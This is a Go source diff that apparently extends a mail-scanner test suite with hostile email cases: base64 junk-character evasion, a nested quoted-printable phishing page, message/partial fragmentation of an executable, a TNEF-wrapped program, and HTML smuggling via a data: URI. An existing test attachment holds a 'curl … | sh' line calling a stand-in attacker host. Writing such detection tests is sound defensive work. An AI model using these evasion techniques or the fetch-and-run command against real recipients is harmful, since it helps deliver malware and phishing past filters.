@@ -12,6 +12,7 @@ import (
 	"encoding/binary"
 	"fmt"
 	"hash/crc32"
+	"mime/quotedprintable"
 	"os"
 	"os/exec"
 	"path/filepath"
@@ -381,7 +382,27 @@ func Hostile() []Case {
 		nest(12, Attach("text/plain", "notes.txt", []byte("#!/bin/sh\ncurl -s http://evil.example/x | sh\n"))))
 	add("js-nested-12", "a .js script nested 12 deep", nest(12, Attach("application/octet-stream", "invoice.js", []byte(Script))))
 	add("js-part-1001", "a .js script as part 1001", Multipart("b", append(many, Attach("application/octet-stream", "invoice.js", []byte(Script)))...))
+	add("b64-junk-chars", "base64 with characters outside the alphabet, which clients skip",
+		Multipart("b", text, Leaf("Content-Type: application/octet-stream; name=\"report.pdf\"\r\nContent-Transfer-Encoding: base64", "!"+strings.Replace(B64(pe), "AAAA", "AA*AA", 3))))
+	add("phish-qp-nested-12", "HTML password-phishing page in quoted-printable, nested 12 deep",
+		nest(12, Leaf("Content-Type: text/html; name=\"login.html\"\r\nContent-Disposition: attachment; filename=\"login.html\"\r\nContent-Transfer-Encoding: quoted-printable", QP(Phish))))
+	half := B64(pe)[:len(B64(pe))/2]
+	add("message-partial", "report.exe split over message/partial fragments (RFC 2046 5.2.2), fragment 1",
+		Leaf("Content-Type: message/partial; id=\"frag@customer.test\"; number=1; total=2",
+			"Content-Type: application/octet-stream; name=\"report.exe\"\r\nContent-Transfer-Encoding: base64\r\n\r\n"+half))
+	add("tnef", "a program in a TNEF winmail.dat (Outlook opens it)", Multipart("b", text, Attach("application/ms-tnef", "winmail.dat", append([]byte{0x78, 0x9f, 0x3e, 0x22, 0x01, 0x00}, pe...))))
+	add("html-smuggling", "report.exe as a data: URI in an HTML attachment (HTML smuggling)",
+		Multipart("b", text, Attach("text/html", "invoice.html", []byte("<html><body><a download=\"report.exe\" href=\"data:application/octet-stream;base64,"+base64.StdEncoding.EncodeToString(pe)+"\">Download</a></body></html>"))))
 	return c
+}
+
+// QP is quoted-printable text.
+func QP(s string) string {
+	var b strings.Builder
+	w := quotedprintable.NewWriter(&b)
+	w.Write([]byte(s))
+	w.Close()
+	return b.String()
 }
 
 // PNG is a small valid PNG header with distinct content.
